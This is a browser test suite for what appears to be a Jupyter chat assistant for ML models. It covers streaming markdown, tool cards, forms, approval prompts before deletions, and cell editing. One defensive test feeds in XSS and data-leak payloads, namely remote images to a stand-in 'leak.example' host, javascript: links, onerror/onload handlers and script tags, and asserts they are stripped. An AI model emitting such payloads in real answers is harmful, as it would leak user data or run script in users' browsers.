"""Asking: what a person sees of a turn, and what they can do in it."""

from __future__ import annotations

import re
import threading

from playwright.sync_api import expect
from provider import Answer, Provider, calls, held, says, stalls

from browser.page import Desk
from browser.site import Notebook, Site

CODE = "clf.predict(X)"
RICH = f"""\
The model is a **tree**. Its split is at $x_1 > 45$, and

$$p = \\frac{{n_1}}{{n_0 + n_1}}$$

| age | class |
| --- | ----- |
| 20  | 0     |

```python
{CODE}
```
"""


def test_steps_and_tool_cards_show_their_time_and_result(desk: Desk) -> None:
    answer = desk.ask("which models do I have?")
    expect(desk.questions).to_have_text("which models do I have?")
    card = answer.locator("details.mlc-step")
    expect(card).to_have_attribute("data-status", "ok")
    expect(card.locator("> summary")).to_contain_text("list_models")
    expect(card.locator("> summary")).to_contain_text(re.compile(r"\d+ ms|\d\.\d s"))
    card.locator("> summary").click()
    expect(card.get_by_text("DecisionTreeClassifier").first).to_be_visible()
    expect(card.get_by_role("table", name="models").get_by_role("cell", name="age, income")).to_be_visible()
    trail = answer.locator(".mlc-trail")
    trail.locator("summary").click()
    expect(trail.get_by_text("Running: list_models")).to_be_visible()
    expect(answer).to_contain_text("answered by the built-in engine")


def test_a_figure_is_shown_below_its_card(desk: Desk) -> None:
    answer = desk.ask("what matters most to clf?")
    figure = answer.get_by_role("img", name="Figure of get_feature_importance")
    expect(figure).to_be_visible()
    assert figure.evaluate("async image => (await image.decode(), image.naturalWidth)") > 400


def test_a_tool_that_fails_says_why(desk: Desk, notebook: Notebook) -> None:
    notebook.run("raw = DecisionTreeClassifier()")
    answer = desk.ask("predict with raw: age = 30, income = 2")
    expect(answer).to_contain_text(re.compile("not (been )?fitted", re.I))


def test_markdown_streams_with_code_and_latex(hosted_desk: Desk, provider: Provider) -> None:
    desk = hosted_desk
    words = re.findall(r"\S+\s*", RICH)
    provider.enqueue(held(says(*words), len(words) // 2, go := threading.Event()))
    answer = desk.say("tell me about clf")
    # It is there while the rest is still to come.
    expect(answer.locator("strong")).to_have_text("tree")
    expect(answer).to_have_attribute("aria-busy", "true")
    go.set()
    desk.settled(answer)
    expect(answer.locator("pre code")).to_contain_text(CODE)
    expect(answer.locator("td").first).to_have_text("20")
    expect(answer.locator("mjx-container")).to_have_count(2)
    expect(answer.locator("mjx-container[display=true]")).to_be_visible()
    expect(answer).not_to_contain_text("$")


def test_escape_stops_an_answer_and_what_was_said_stays(hosted_desk: Desk, provider: Provider) -> None:
    desk = hosted_desk
    provider.hung_up.clear()
    provider.enqueue(stalls("The first half"))
    answer = desk.say("tell me all")
    expect(answer).to_contain_text("The first half")
    expect(desk.panel.get_by_role("button", name="Stop", exact=True)).to_be_visible()
    desk.message.press("Escape")
    desk.settled(answer)
    expect(answer).to_contain_text("The first half")
    expect(answer).to_contain_text("Stopped.")
    expect(desk.panel.get_by_role("button", name="Stop", exact=True)).to_be_hidden()
    assert provider.hung_up.wait(5), "the provider still sends"


def test_a_prediction_form_comes_from_the_signature_and_is_filled(desk: Desk) -> None:
    answer = desk.ask("predict with clf: age = 65")
    form = answer.get_by_role("form", name="Predict with clf")
    expect(form.get_by_label("age")).to_have_value("65")
    income = form.get_by_label("income")
    expect(income).to_have_value("")
    expect(form).to_contain_text("1 to 6")
    form.get_by_role("button", name="Submit").click()
    expect(income).to_have_attribute("aria-invalid", "true")
    income.fill("5.5")
    form.get_by_role("button", name="Submit").click()
    expect(answer).to_contain_text("predicts 1")
    desk.settled(answer)
    expect(income).to_be_disabled()
    expect(income).to_have_value("5.5")
    expect(form.get_by_role("button", name="Submit")).to_be_disabled()
    expect(answer.locator("details.mlc-step").last).to_have_attribute("data-status", "ok")


def test_a_form_can_be_dismissed(desk: Desk) -> None:
    answer = desk.ask("predict with clf: age = 65")
    answer.get_by_role("button", name="Dismiss").click()
    expect(answer).to_contain_text("Dismissed.")
    desk.settled(answer)
    expect(answer.get_by_label("age")).to_be_disabled()


def test_one_of_several_readings_is_chosen(desk: Desk, notebook: Notebook) -> None:
    notebook.run("other = DecisionTreeClassifier(random_state=1).fit(X.assign(third=1), [1, 0] * 12)")
    answer = desk.ask("what are the inputs?")
    choice = answer.locator(".mlc-form[data-kind=choice]")
    choice.get_by_role("button", name="the inputs of other").click()
    expect(answer).to_contain_text("third")
    desk.settled(answer)
    expect(choice.get_by_role("button", name="the inputs of other")).to_be_disabled()


def test_an_effect_is_shown_exactly_and_denied(desk: Desk, notebook: Notebook) -> None:
    answer = desk.ask("delete clf")
    approval = answer.get_by_role("region", name="Approval: delete_model")
    expect(approval).to_contain_text("clf")
    expect(approval).to_contain_text("changes your kernel")
    assert notebook.run("print('clf' in globals())") == "True\n"
    approval.get_by_role("button", name="Deny").click()
    expect(approval).to_contain_text("Denied")
    desk.settled(answer)
    expect(approval.get_by_role("button")).to_have_count(0)
    assert notebook.run("print('clf' in globals())") == "True\n"


def test_an_effect_happens_when_it_is_allowed(desk: Desk, notebook: Notebook) -> None:
    answer = desk.ask("delete clf")
    approval = answer.get_by_role("region", name="Approval: delete_model")
    approval.get_by_role("button", name="Allow once").click()
    expect(approval).to_contain_text("Allowed")
    desk.settled(answer)
    expect(answer.locator("details.mlc-step").last).to_have_attribute("data-status", "ok")
    assert notebook.run("print('clf' in globals())") == "False\n"


def test_always_holds_for_this_conversation(desk: Desk, notebook: Notebook) -> None:
    notebook.run("second = DecisionTreeClassifier().fit(X, [1, 0] * 12)")
    first = desk.ask("delete clf")
    first.get_by_role("button", name="Always for this conversation").click()
    desk.settled(first)
    expect(first).to_contain_text("always for this conversation")
    second = desk.ask("delete second")
    expect(second.get_by_role("region", name="Approval: delete_model")).to_have_count(0)
    expect(second.locator("details.mlc-step").last).to_have_attribute("data-status", "ok")
    assert notebook.run("print('second' in globals())") == "False\n"


def test_a_turn_stays_with_the_notebook_it_began_in(
    hosted_desk: Desk, notebook: Notebook, site: Site, provider: Provider
) -> None:
    other = site.notebook(f"elsewhere-{notebook.path[:20]}", "3 + 3")
    try:
        desk = hosted_desk
        said = held(says("clf is ", "the one."), 1, go := threading.Event())
        provider.enqueue(calls(("list_models", {}), text=""), said)
        desk.say("which models are there?")
        desk.command("docmanager:open", path=other.path)
        expect(desk.kernel).to_contain_text(other.path)
        expect(desk.questions).to_have_count(0)
        go.set()
        desk.command("docmanager:open", path=notebook.path)
        desk.settled(desk.answers.first)
        expect(desk.answers).to_have_count(1)
        expect(desk.answers).to_contain_text("clf is the one.")
        tool = provider.bodies[1]["messages"][-1]
        assert "DecisionTreeClassifier" in tool["content"], "it was asked of the other notebook's kernel"
    finally:
        other.close()


def test_a_cell_and_the_panel_are_one_conversation(desk: Desk, site: Site, notebook: Notebook) -> None:
    desk.page.evaluate(
        "source => window.jupyterapp.shell.currentWidget.content.model.sharedModel.cells[0].setSource(source)",
        "%%chat\nwhat does clf need?",
    )
    desk.run_all()
    expect(desk.questions).to_have_text("what does clf need?")
    desk.settled(desk.answers.first)
    expect(desk.answers.first).to_contain_text("income")
    # The second question leans on the first.
    expect(desk.ask("which models do I have?")).to_contain_text("clf")
    asked = site.api("GET", "mlchat/api/conversations")["conversations"]
    assert len([one for one in asked if one.get("notebook") == notebook.path]) == 1


def test_code_is_copied_inserted_and_replaced_and_each_can_be_undone(hosted_desk: Desk, provider: Provider) -> None:
    desk, page = hosted_desk, hosted_desk.page
    provider.enqueue(says(RICH))
    answer = desk.ask("how do I predict?")
    answer.get_by_role("button", name="Copy", exact=True).click()
    expect(answer.locator("[data-said=done]")).to_be_visible()
    assert page.evaluate("() => navigator.clipboard.readText()") == CODE
    before = desk.cells()
    answer.get_by_role("button", name="Insert as cell").click()
    page.wait_for_function("n => document.querySelectorAll('.jp-NotebookPanel .jp-CodeCell').length === n", arg=3)
    assert desk.cells() == [before[0], CODE, before[1]]
    desk.command("notebook:undo-cell-action")
    page.wait_for_function("n => document.querySelectorAll('.jp-NotebookPanel .jp-CodeCell').length === n", arg=2)
    assert desk.cells() == before
    answer.get_by_role("button", name="Replace cell").click()
    expect(page.locator(".jp-Notebook .jp-mod-active .cm-content")).to_have_text(CODE)
    page.locator(".jp-Notebook .jp-mod-active .cm-content").click()
    page.keyboard.press("Control+z")
    expect(page.locator(".jp-Notebook .jp-mod-active .cm-content")).not_to_have_text(CODE)
    assert desk.cells() == before


def test_remote_images_and_javascript_links_are_stripped(
    hosted_desk: Desk, provider: Provider, outside: list[str]
) -> None:
    desk = hosted_desk
    bad = (
        "![a chart](https://leak.example/a.png?rows=1) ",
        "[press me](javascript:window.hit=1) ",
        "<img src='https://leak.example/b.png' onerror='window.hit=2'>",
        "<script>window.hit=3</script><iframe src='https://leak.example/c'></iframe>",
        "<svg onload='window.hit=4'></svg><p style='background:url(https://leak.example/d.png)'>styled</p>\n\n",
        "[a page](https://docs.example/) ![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
    )
    provider.enqueue(Answer(says(*bad).pieces, between_s=0.1))
    answer = desk.ask("show me a chart")
    expect(answer).to_contain_text("a chart")
    expect(answer.locator("img")).to_have_count(1)
    expect(answer.locator("iframe, script, svg[onload], [style*=url]")).to_have_count(0)
    answer.get_by_text("press me").click()
    links = answer.locator("a[href]").evaluate_all("all => all.map(a => [a.getAttribute('href'), a.target])")
    assert links == [["https://docs.example/", "_blank"]]
    assert desk.page.evaluate("() => window.hit") is None
    assert not outside


def test_a_number_without_a_source_is_marked_and_the_others_lead_to_their_card(
    hosted_desk: Desk, provider: Provider
) -> None:
    desk = hosted_desk
    said = says("| model | inputs |\n| --- | --- |\n| `clf` | 2 |\n\nIts **accuracy** is 0.97 <img src=x>.")
    provider.enqueue(calls(("get_model_info", {"model_id": "clf"})), said)
    answer = desk.ask("how good is clf?")
    marked = answer.locator("mark.mlc-unbound")
    expect(marked).to_have_text(["0.97"])
    expect(marked).to_have_attribute("title", "not from your kernel")
    expect(answer.locator(".mlc-end")).to_contain_text("not from your kernel: 0.97")
    assert not re.search("[\ue0f0\ue0f1]", answer.inner_html())
    card = answer.locator("details.mlc-step")
    expect(card).not_to_have_attribute("open", re.compile(".*"))
    answer.get_by_role("cell", name="2").get_by_role("button").click()
    answer.get_by_role("dialog", name="Where 2 comes from").get_by_role("button", name="Show the result").click()
    expect(card).to_have_attribute("open", re.compile(".*"))
    expect(card.locator("> summary")).to_be_focused()
